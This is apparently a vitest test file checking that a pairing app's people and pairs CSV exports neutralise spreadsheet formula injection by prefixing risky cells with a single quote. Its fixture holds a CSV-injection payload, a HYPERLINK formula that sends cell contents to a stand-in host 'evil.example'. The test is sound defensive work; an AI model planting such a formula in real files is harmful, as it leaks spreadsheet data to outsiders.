// A cell that begins with = + - @ (or a tab or carriage return, which a spreadsheet
// drops before reading the rest) is a formula to Excel and LibreOffice. Both CSV exports must write
// such cells so that no spreadsheet runs them (OWASP: a leading single quote), and stay readable.
import { describe, expect, test } from 'vitest';
import { parseDelimited } from '../../../src/lib/matching/csv';
import { matchPairs } from '../../../src/lib/matching/match';
import { exportPairs } from '../../../src/lib/matching/pair-list';
import { exportPeople, importPeople } from '../../../src/lib/matching/people';
import { catalogue, person } from './support';

const LEADING = ['=', '+', '-', '@', '\t', '\r'] as const;
const PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&B3,"Click")';

/** True when a spreadsheet would read the cell as a formula: it starts with a trigger, after dropping tabs and CRs. */
const runsAsFormula = (cell: string): boolean => /^[\t\r]*[=+\-@]/.test(cell);

const pairText = {
  header: ['Senior', 'Junior', 'Topic', 'First meeting', 'Locked'] as const,
  topicName: (topic: string) => topic,
  firstMeeting: () => 'Agree a time',
  yes: 'yes',
  no: 'no',
};

describe.each(LEADING)('a cell that begins with %j', (lead) => {
  const text = `${lead}${PAYLOAD}`;
  const people = [
    person('senior', `${lead}Sen`, { department: text, manager: text, site: text, topics: [text] }),
    person('junior', `${lead}Jun`, { department: text, site: text, topics: [text], pleaseNotWith: [text] }),
  ];

  test('the people CSV writes no cell a spreadsheet would run, and reads back to the same list', () => {
    const csv = exportPeople(catalogue, people, 'en');
    const cells = parseDelimited(csv).rows.flatMap((row) => row.cells);
    // Read raw (as a spreadsheet does, without our reader's un-escaping): no formula anywhere.
    const raw = csv.split(/\r\n/).flatMap((line) => line.split(','));
    expect(raw.filter((cell) => runsAsFormula(cell.replace(/^"/, '')))).toEqual([]);
    expect(csv).toContain(`'${lead}Sen`);
    // Our own reader drops the quote it added: the list reads back as it was.
    expect(cells).toContain(`${lead}Sen`);
    expect(cells.some((cell) => cell.includes(PAYLOAD))).toBe(true);
    const back = importPeople(catalogue, csv).people;
    expect(back.map((p) => p.name)).toEqual(people.map((p) => p.name.trim()));
  });

  test('the pairs CSV writes no cell a spreadsheet would run, and keeps the names readable', () => {
    const pairs = matchPairs(catalogue.fit, people, { setting: 'hybrid' }).pairs;
    expect(pairs.length).toBe(1);
    const csv = exportPairs(pairs, pairText);
    const raw = csv.split(/\r\n/).flatMap((line) => line.split(','));
    expect(raw.filter((cell) => runsAsFormula(cell.replace(/^"/, '')))).toEqual([]);
    // Readable: the text follows one visible quote mark.
    expect(csv).toContain(`'${lead}Sen`);
    expect(csv).toContain(`'${lead}Jun`);
  });
});
